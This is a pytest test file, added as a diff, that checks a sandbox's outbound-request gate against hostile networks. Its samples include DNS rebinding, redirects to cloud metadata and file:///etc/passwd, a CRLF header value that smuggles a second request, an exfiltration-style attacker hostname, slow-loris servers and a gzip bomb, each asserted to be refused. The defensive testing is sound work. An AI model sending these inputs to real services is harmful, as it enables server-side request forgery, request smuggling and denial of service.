@@ -1,0 +1,425 @@
+"""Hostile networks against the real egress code: real sockets and TLS in network namespaces (attacks.md, E1 to E17).
+
+Each denial is shown with its control: the same thing without the guard goes through.
+"""
+
+import gzip
+
+import anyio
+import pytest
+
+from profiles.egress import EgressRule
+from server.egress.events import Denied, EgressAttempt, End, Failed
+from server.egress.gate import EgressGate
+from server.egress.limits import EgressLimits
+from tests.internet import (
+    CLIENT,
+    METADATA,
+    OTHER,
+    PRIVATE,
+    SITE,
+    SITE6,
+    Cable,
+    Internet,
+    answering,
+    fetch,
+    internet,
+    ok,
+    read_head,
+    redirect,
+    wires,
+)
+
+__all__ = ["wires"]
+
+HTTPS = EgressRule(host="files.example.org")
+HTTP = EgressRule(host="files.example.org", schemes=frozenset({"http"}), ports=frozenset({80}))
+BOTH = EgressRule(host="files.example.org", schemes=frozenset({"http", "https"}), ports=frozenset({80, 443}))
+
+
+async def reachable(address: str, port: int) -> bool:
+    """Control: whether a plain socket gets there."""
+    async with await anyio.connect_tcp(address, port):
+        return True
+
+
+async def test_an_allowed_https_url_is_fetched_and_recorded_before_it_is_dialled(wires: Cable) -> None:
+    """The way that works: one look-up, one record with the address, one connection, a whole body."""
+    async with internet(wires) as net:
+        net.zone["files.example.org"] = [[SITE]]
+        requests: list[bytes] = []
+        await net.serve(
+            SITE, 443, answering(ok(b"hello", "X-A: 1", "Set-Cookie: a=b"), requests), name="files.example.org"
+        )
+        secrets = [
+            ("Authorization", "Bearer key"),
+            ("Cookie", "a=b"),
+            ("Accept", "text/html"),
+            ("Host", "evil.example"),
+        ]
+        got = await fetch(net.gate(HTTPS), "https://FILES.example.org/a%7eb?q=1#part", headers=secrets)
+    assert got.head.status == 200
+    assert got.body == b"hello"
+    assert got.last == End(truncated=None)
+    assert got.head.url == "https://files.example.org/a~b?q=1"
+    assert ("x-a", "1") in got.head.headers
+    assert "set-cookie" not in dict(got.head.headers)
+    assert got.head.dropped == ("'authorization'", "'cookie'", "'host'")
+    assert requests[0].startswith(b"GET /a~b?q=1 HTTP/1.1\r\nHost: files.example.org\r\n")
+    assert b"key" not in requests[0]
+    assert b"a=b" not in requests[0]
+    assert net.lookups == ["files.example.org"]
+    [attempt] = net.attempts
+    assert (attempt.decision.effect, attempt.decision.rule, attempt.addresses) == ("allow", "network.allow[0]", (SITE,))
+
+
+async def test_an_ipv6_server_is_reached(wires: Cable) -> None:
+    """Both families go the same way; an address that does not answer is followed by the next checked one."""
+    async with internet(wires) as net:
+        net.zone["files.example.org"] = [[SITE, SITE6]]
+        await net.serve(SITE6, 443, answering(ok(b"six")), name="files.example.org")
+        got = await fetch(net.gate(HTTPS), "https://files.example.org/")
+    assert got.body == b"six", got.events
+
+
+async def test_a_denied_name_is_never_looked_up(wires: Cable) -> None:
+    """E4: the name itself would be the message, to whoever runs its zone."""
+    async with internet(wires) as net:
+        got = await fetch(net.gate(HTTPS), "https://secret-data.attacker.example/")
+        control = await fetch(net.gate(HTTPS), "https://files.example.org/")
+    assert isinstance(got.last, Denied)
+    assert got.last.decision.rule == "egress.host"
+    assert isinstance(control.last, Failed)
+    assert net.lookups == ["files.example.org"]
+    assert [attempt.decision.effect for attempt in net.attempts] == ["deny", "allow"]
+
+
+async def test_nothing_is_dialled_when_the_record_cannot_be_written(wires: Cable) -> None:
+    """The audit record comes first; its failure passes through and no connection is made."""
+
+    async def unwritable(_: EgressAttempt) -> None:
+        raise RuntimeError("disk full")
+
+    async with internet(wires) as net:
+        net.zone["files.example.org"] = [[SITE]]
+        await net.serve(SITE, 80, answering(ok(b"")))
+        gate = EgressGate(rules=[HTTP], on_decision=unwritable, resolver=net.resolve, tls=net.trust)
+        with pytest.raises(RuntimeError, match="disk full"):
+            await fetch(gate, "http://files.example.org/")
+        assert net.connections == []
+        assert isinstance((await fetch(net.gate(HTTP), "http://files.example.org/")).last, End)
+        assert net.connections == [f"{SITE}:80"]
+
+
+@pytest.mark.parametrize(
+    ("answer", "kind"),
+    [
+        ([PRIVATE], "a private network"),
+        ([METADATA], "a cloud metadata service"),
+        (["100.64.0.1"], "carrier-grade NAT"),
+        ([CLIENT], "belongs to this machine"),
+        (["127.0.0.1"], "loopback"),
+        ([SITE, PRIVATE], "a private network"),
+    ],
+)
+async def test_an_answer_with_a_forbidden_address_is_refused(wires: Cable, answer: list[str], kind: str) -> None:
+    """E6, E7: one bad address condemns the answer, and a server that listens there is not reached."""
+    async with internet(wires) as net:
+        net.zone["files.example.org"] = [answer]
+        bad = answer[-1]
+        await net.serve(bad, 80, answering(ok(b"secret")), own=bad in {CLIENT, "127.0.0.1"})
+        got = await fetch(net.gate(HTTP), "http://files.example.org/")
+        assert net.connections == []
+        assert await reachable(bad, 80)
+    assert isinstance(got.last, Denied)
+    assert got.last.decision.rule == "egress.address"
+    assert kind in got.last.decision.reason
+    assert bad not in got.last.decision.reason
+    assert net.attempts[0].addresses == tuple(answer)
+
+
+async def test_rebinding_does_not_help(wires: Cable) -> None:
+    """E6: a name that is public first and private at the next look-up: what was checked is what is dialled."""
+    async with internet(wires) as net:
+        net.zone["files.example.org"] = [[SITE], [PRIVATE]]
+        await net.serve(SITE, 80, answering(ok(b"public")))
+        await net.serve(PRIVATE, 80, answering(ok(b"secret")))
+        gate = net.gate(HTTP)
+        first = await fetch(gate, "http://files.example.org/")
+        second = await fetch(gate, "http://files.example.org/")
+        assert net.connections == [f"{SITE}:80"]
+        assert await reachable(PRIVATE, 80)
+    assert first.body == b"public"
+    assert isinstance(second.last, Denied)
+    assert second.last.decision.rule == "egress.address"
+    assert net.lookups == ["files.example.org"] * 2
+
+
+@pytest.mark.parametrize(
+    ("location", "rule"),
+    [
+        (f"http://{METADATA}/latest/meta-data/", "egress.address"),
+        ("http://169.254.43518/", "egress.spelling"),
+        ("http://[::ffff:10.0.0.1]/", "egress.spelling"),
+        ("http://inner.example.org/", "egress.address"),
+        ("http://evil.example/", "egress.host"),
+        ("//evil.example/", "egress.host"),
+        ("http://files.example.org:8080/", "egress.port"),
+        ("http://files.example.org/start", "egress.redirect"),
+        ("ftp://files.example.org/", "egress.scheme"),
+        ("file:///etc/passwd", "egress.scheme"),
+        ("http://user:key@files.example.org/", "egress.spelling"),
+        ("http://files.example.org\\@evil.example/", "egress.spelling"),
+        ("/a b", "egress.spelling"),
+        ("/%2e%2e/etc", "egress.path"),
+    ],
+)
+async def test_each_redirect_is_decided_again(wires: Cable, location: str, rule: str) -> None:
+    """E8: an allowed first hop buys nothing for the second."""
+    async with internet(wires) as net:
+        net.zone |= {"files.example.org": [[SITE]], "inner.example.org": [[PRIVATE]]}
+        await net.serve(SITE, 80, answering(redirect(location)))
+        await net.serve(METADATA, 80, answering(ok(b"secret")))
+        inner = EgressRule(host="inner.example.org", schemes=frozenset({"http"}), ports=frozenset({80}))
+        got = await fetch(net.gate(HTTP, inner), "http://files.example.org/start")
+        assert net.connections == [f"{SITE}:80"]
+        assert await reachable(METADATA, 80)
+    assert isinstance(got.last, Denied)
+    assert got.last.decision.rule == rule
+    assert [hop.url for hop in got.last.hops] == ["http://files.example.org/start"]
+    assert [attempt.decision.effect for attempt in net.attempts] == ["allow", "deny"]
+
+
+async def test_an_allowed_redirect_is_followed_without_credentials(wires: Cable) -> None:
+    """E8's control, and its other half: http to https on the same host works, the way back does not."""
+    requests: list[bytes] = []
+    async with internet(wires) as net:
+        net.zone["files.example.org"] = [[SITE]]
+        await net.serve(SITE, 80, answering(redirect("https://files.example.org/b", 301)))
+        await net.serve(SITE, 443, answering(ok(b"moved"), requests), name="files.example.org")
+        got = await fetch(net.gate(BOTH), "http://files.example.org/a", headers=[("Authorization", "key")])
+        assert got.body == b"moved"
+        assert [(hop.status, hop.url) for hop in got.head.hops] == [(301, "http://files.example.org/a")]
+        assert b"uthorization" not in requests[0]
+
+    async with internet(wires) as net:
+        net.zone["files.example.org"] = [[SITE]]
+        await net.serve(SITE, 80, answering(ok(b"plain")))
+        await net.serve(SITE, 443, answering(redirect("http://files.example.org/b")), name="files.example.org")
+        down = await fetch(net.gate(BOTH), "https://files.example.org/a")
+        assert isinstance(down.last, Denied)
+        assert down.last.decision.reason == "A redirect leads from https to http."
+        assert (await fetch(net.gate(BOTH), "http://files.example.org/b")).body == b"plain"
+
+
+async def test_endless_redirects_end(wires: Cable) -> None:
+    """E8: each hop leads to a new URL, so only the count can stop it."""
+    served = 0
+
+    async def onward(stream: anyio.abc.ByteStream) -> None:
+        nonlocal served
+        await read_head(stream)
+        served += 1
+        await stream.send(redirect(f"/{served}"))
+
+    async with internet(wires) as net:
+        net.zone["files.example.org"] = [[SITE]]
+        await net.serve(SITE, 80, onward)
+        got = await fetch(net.gate(HTTP), "http://files.example.org/")
+    assert isinstance(got.last, Denied)
+    assert got.last.decision.reason == "The request was redirected more than 5 times."
+    assert served == 6
+
+
+async def test_a_certificate_for_another_name_is_refused(wires: Cable) -> None:
+    """A server at the right address without the right certificate gets no request."""
+    requests: list[bytes] = []
+    async with internet(wires) as net:
+        net.zone["files.example.org"] = [[SITE]]
+        await net.serve(SITE, 443, answering(ok(b""), requests), name="other.example.org")
+        got = await fetch(net.gate(HTTPS), "https://files.example.org/")
+    assert isinstance(got.last, Failed)
+    assert "its certificate is not trusted" in got.last.reason
+    assert requests == []
+
+
+async def _hold(net: Internet, response: bytes, limits: EgressLimits) -> tuple[object, bytes]:
+    """Serve ``response`` and then nothing more, without closing; return how the request ended and its body."""
+    net.zone["files.example.org"] = [[SITE]]
+
+    async def handler(stream: anyio.abc.ByteStream) -> None:
+        await read_head(stream)
+        await stream.send(response)
+        await anyio.sleep_forever()
+
+    await net.serve(SITE, 80, handler)
+    got = await fetch(net.gate(HTTP, limits=limits), "http://files.example.org/")
+    return got.last, got.body
+
+
+@pytest.mark.parametrize("response", [b"", b"HTTP/1.1 200 OK\r\nX-Slow: "])
+async def test_a_silent_server_is_given_up(wires: Cable, response: bytes) -> None:
+    """E16: silence before or within the head ends at the idle limit."""
+    async with internet(wires) as net:
+        last, _ = await _hold(net, response, EgressLimits(idle_seconds=0.2))
+    assert last == Failed(reason="The server was silent for 0.2 seconds.")
+
+
+async def test_a_body_that_stops_is_marked_truncated(wires: Cable) -> None:
+    """E16: what had come is good, and the end says that there was more."""
+    async with internet(wires) as net:
+        last, body = await _hold(net, ok(b"x" * 10)[:-4], EgressLimits(idle_seconds=0.2))
+    assert body == b"x" * 6
+    assert last == End(truncated="The server was silent for 0.2 seconds.")
+
+
+async def test_a_slow_loris_runs_into_the_total_time(wires: Cable) -> None:
+    """E16: a server that always sends one more byte in time never trips the idle limit."""
+
+    async def drip(stream: anyio.abc.ByteStream) -> None:
+        await read_head(stream)
+        await stream.send(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
+        while True:
+            await stream.send(b"1\r\nx\r\n")
+            await anyio.sleep(0.02)  # the attack itself: it has to be slow
+
+    async with internet(wires) as net:
+        net.zone["files.example.org"] = [[SITE]]
+        await net.serve(SITE, 80, drip)
+        limits = EgressLimits(idle_seconds=5, request_seconds=0.5)
+        got = await fetch(net.gate(HTTP, limits=limits), "http://files.example.org/")
+    assert got.last == End(truncated="The request took longer than 0.5 seconds.")
+    assert 2 <= len(got.body) <= 50
+
+
+@pytest.mark.parametrize("chunk", [b"1000\r\n" + b"x" * 4096 + b"\r\n", b"1\r\nx\r\n"])
+async def test_an_endless_body_is_cut(wires: Cable, chunk: bytes) -> None:
+    """E16: endless chunked data ends at the byte limit, in chunks of any size."""
+
+    async def endless(stream: anyio.abc.ByteStream) -> None:
+        await read_head(stream)
+        await stream.send(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
+        while True:
+            await stream.send(chunk * 16)
+
+    async with internet(wires) as net:
+        net.zone["files.example.org"] = [[SITE]]
+        await net.serve(SITE, 80, endless)
+        limits = EgressLimits(body_bytes=100_000, header_bytes=1000)
+        got = await fetch(net.gate(HTTP, limits=limits), "http://files.example.org/")
+    assert isinstance(got.last, End)
+    assert "was cut at" in (got.last.truncated or "")
+    assert len(got.body) <= 100_000
+
+
+async def test_a_compression_bomb_stops_at_the_ratio(wires: Cable) -> None:
+    """E16: 64 MiB in 64 KiB; the same page at an honest ratio is decoded whole."""
+    bomb = gzip.compress(bytes(64 * 1024 * 1024))
+    page = gzip.compress(b"<p>honest</p>" * 50_000)
+    limits = EgressLimits(body_bytes=2**40)
+    async with internet(wires) as net:
+        net.zone["files.example.org"] = [[SITE]]
+        await net.serve(SITE, 80, answering(ok(bomb, "Content-Encoding: gzip")))
+        await net.serve(SITE, 443, answering(ok(page, "Content-Encoding: gzip")), name="files.example.org")
+        got = await fetch(net.gate(HTTP, limits=limits), "http://files.example.org/")
+        control = await fetch(net.gate(HTTPS, limits=limits), "https://files.example.org/")
+    assert got.last == End(truncated="The body decompresses to more than 100 times its size.")
+    assert len(got.body) < 8 * 1024 * 1024
+    assert (control.body, control.last) == (b"<p>honest</p>" * 50_000, End(truncated=None))
+
+
+@pytest.mark.parametrize(
+    ("response", "reason"),
+    [
+        (b"HTTP/1.1 200 OK\r\n" + b"X-Flood: " + b"x" * 60_000 + b"\r\n\r\n", "broke HTTP/1.1"),
+        (b"HTTP/1.1 200 OK\r\n" + b"A: b\r\n" * 20_000 + b"\r\n", "broke HTTP/1.1"),
+        (b"HTTP/1.1 103 Early Hints\r\nLink: x\r\n\r\n" * 1000, "too many interim responses"),
+        (
+            b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nHTTP/1.1 200 OK",
+            "states its length in two ways",
+        ),
+        (b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nContent-Length: 5\r\n\r\nabcde", "broke HTTP/1.1"),
+        (b"HTTP/1.1 200 OK\r\nTransfer-Encoding: xchunked\r\n\r\n", "broke HTTP/1.1"),
+        (b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n", "broke HTTP/1.1"),
+        (b"\x00\x00\x12\x04\x00\x00\x00\x00\x00" * 10, "broke HTTP/1.1"),
+        (b"SSH-2.0-OpenSSH_9.2\r\n\r\n", "broke HTTP/1.1"),
+        (b"", "without a response"),
+    ],
+)
+async def test_a_response_that_is_not_plain_http_is_refused(wires: Cable, response: bytes, reason: str) -> None:
+    """E10, E16: header floods, two lengths, a switch to h2c, another protocol; nothing of it reaches the sandbox."""
+    async with internet(wires) as net:
+        net.zone["files.example.org"] = [[SITE]]
+        await net.serve(SITE, 80, answering(response))
+        got = await fetch(net.gate(HTTP), "http://files.example.org/")
+    [only] = got.events
+    assert isinstance(only, Failed)
+    assert reason in only.reason
+
+
+async def test_a_smuggled_second_response_is_never_read(wires: Cable) -> None:
+    """E10: bytes after the end of the response belong to nobody, because a connection serves one request."""
+    async with internet(wires) as net:
+        net.zone["files.example.org"] = [[SITE]]
+        await net.serve(SITE, 80, answering(ok(b"one") + ok(b"two")))
+        got = await fetch(net.gate(HTTP), "http://files.example.org/")
+    assert (got.body, got.last) == (b"one", End(truncated=None))
+
+
+async def test_a_header_value_cannot_smuggle_a_request(wires: Cable) -> None:
+    """E1, E10: line ends in what the sandbox sends are refused; without them the same header passes."""
+    async with internet(wires) as net:
+        net.zone["files.example.org"] = [[SITE]]
+        requests: list[bytes] = []
+        await net.serve(SITE, 80, answering(ok(b""), requests))
+        gate = net.gate(HTTP)
+        bad = await fetch(gate, "http://files.example.org/", headers=[("Accept", "a\r\n\r\nGET /x HTTP/1.1")])
+        assert requests == []
+        good = await fetch(gate, "http://files.example.org/", headers=[("Accept", "a")])
+    assert isinstance(bad.last, Denied)
+    assert bad.last.decision.rule == "egress.header"
+    assert isinstance(good.last, End)
+
+
+async def test_a_call_has_only_so_many_connections_and_records(wires: Cable) -> None:
+    """A loop of requests ends in refusals, and a loop of refusals does not fill the audit log."""
+    async with internet(wires) as net:
+        net.zone["files.example.org"] = [[SITE]]
+        await net.serve(SITE, 80, answering(ok(b"")))
+        gate = net.gate(HTTP, limits=EgressLimits(connections=2, attempts=4))
+        ends = [(await fetch(gate, "http://files.example.org/")).last for _ in range(8)]
+    rules = [end.decision.rule for end in ends if isinstance(end, Denied)]
+    assert rules == ["egress.connections"] * 2 + ["egress.attempts"] * 4
+    assert len(net.attempts) == 5
+    assert gate.unrecorded == 3
+    assert net.connections == [f"{SITE}:80"] * 2
+
+
+async def test_post_carries_its_body_and_follows_nothing(wires: Cable) -> None:
+    """A method that changes things is sent once: its redirect is handed back instead of followed."""
+    rule = EgressRule(host="files.example.org", methods=frozenset({"POST"}))
+    requests: list[bytes] = []
+    async with internet(wires) as net:
+        net.zone["files.example.org"] = [[SITE]]
+        await net.serve(
+            SITE, 443, answering(redirect("https://files.example.org/x"), requests), name="files.example.org"
+        )
+        got = await fetch(
+            net.gate(rule), "https://files.example.org/q", "POST", [("Content-Type", "text/plain")], b"q=1"
+        )
+    assert got.head.status == 302
+    assert b"Content-Length: 3\r\n" in requests[0]
+    assert requests[0].endswith(b"\r\n\r\nq=1")
+    assert net.connections == [f"{SITE}:443"]
+
+
+async def test_other_addresses_of_the_same_network_stay_out_of_reach(wires: Cable) -> None:
+    """An address is only reached through a rule that names it, never through a rule for its neighbour."""
+    async with internet(wires) as net:
+        await net.serve(OTHER, 443, answering(ok(b"named")), name=OTHER)
+        rule = EgressRule(host=OTHER)
+        assert (await fetch(net.gate(rule), f"https://{OTHER}/")).body == b"named"
+        other = await fetch(net.gate(rule), f"https://{SITE}/")
+    assert isinstance(other.last, Denied)
+    assert other.last.decision.rule == "egress.host"
+    assert net.lookups == []
